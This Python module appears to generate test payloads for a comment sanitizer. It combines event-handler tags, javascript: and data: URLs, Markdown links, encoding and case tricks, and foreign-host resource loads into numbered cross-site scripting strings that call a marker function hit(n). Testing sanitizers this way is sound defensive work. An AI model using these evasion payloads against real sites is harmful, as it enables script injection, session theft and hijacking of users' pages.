"""Ways to have a browser run something that was written as a comment, put together from their parts."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

FOREIGN = "http://foreign.example"

_RUNNING = [  # tags with the event that comes by itself
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("iframe", "onload"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("embed src=x", "onerror"),
    ("ImG sRc=x", "OnErRoR"),
]
_CALLS = [
    "hit({n})",
    "window[`hit`]({n})",
    "eval(`hit({n})`)",
    "setTimeout(`hit({n})`)",
    "[{n}].map(hit)",
    "hit.call(0,{n})",
]
_JOINTS = [" ", "/", "\n", "\t"]
_FORMS = ["<{tag}{joint}{event}={call}>", "<{tag}{joint}{event}='{call}'>", '"><{tag}{joint}{event}="{call}">']
_FORMS += [
    "</textarea><{tag}{joint}{event}={call}>",
    "**<{tag}{joint}{event}={call}>**",
    "> - *<{tag}{joint}{event}={call}//",
]
_ADDRESSES = [
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "&#106;avascript:{call}",
    "\x01javascript:{call}",
]
_ADDRESSES += [
    "data:text/html,<script>{call}</script>",
    "vbscript:{call}",
    "http://x/'onmouseover='{call}",
    FOREIGN + "/{call}",
]
_HOLDERS = [
    "<a href='{at}'>x</a>",
    '<iframe src="{at}">',
    "<form action='{at}'><button>x",
    "[x]({at})",
    "<{at}>",
    "{at}",
]
_HOLDERS += [
    '<meta http-equiv=refresh content="0;url={at}">',
    "<base href='{at}'>",
    '<object data="{at}">',
    "![x]({at})",
]
_WHOLE = ["<script>{call}</script>", "<ScRiPt >{call}</sCrIpT>", "<scr<script>ipt>{call}</scr</script>ipt>"]
_WHOLE += [
    "<svg><script>{call}</script></svg>",
    "<math><mtext><script>{call}</script>",
    "<!--><script>{call}</script>-->",
]
_WHOLE += ['<noscript><p title="</noscript><img src=x onerror={call}>">', "{{{{constructor.constructor('{call}')()}}}}"]
_WHOLE += [
    "<template><img src=x onerror={call}></template>",
    "\\u003cimg src=x onerror={call}\\u003e",
    "&lt;img src=x onerror={call}&gt;",
]
_WHOLE += ["＜img src=x onerror={call}＞", "<img src={foreign}/p.png>", "<style>@import '{foreign}/s.css'</style>"]
_WHOLE += [
    "<link rel=stylesheet href={foreign}/s.css>",
    "<p style=background:url({foreign}/b.png)>x",
    "]]><script>{call}</script>",
]


def payloads() -> Iterator[str]:
    """Yield them all, the whole ones first. What they run is ``hit(n)``, *n* being their number."""
    number = 0
    for form in _WHOLE:
        yield form.format(call=f"hit({number})", foreign=FOREIGN)
        number += 1
    for holder, at in product(_HOLDERS, _ADDRESSES):
        yield holder.format(at=at.format(call=f"hit({number})"))
        number += 1
    for (tag, event), joint, form, call in product(_RUNNING, _JOINTS, _FORMS, _CALLS):
        yield form.format(tag=tag, joint=joint, event=event, call=call.format(n=number))
        number += 1
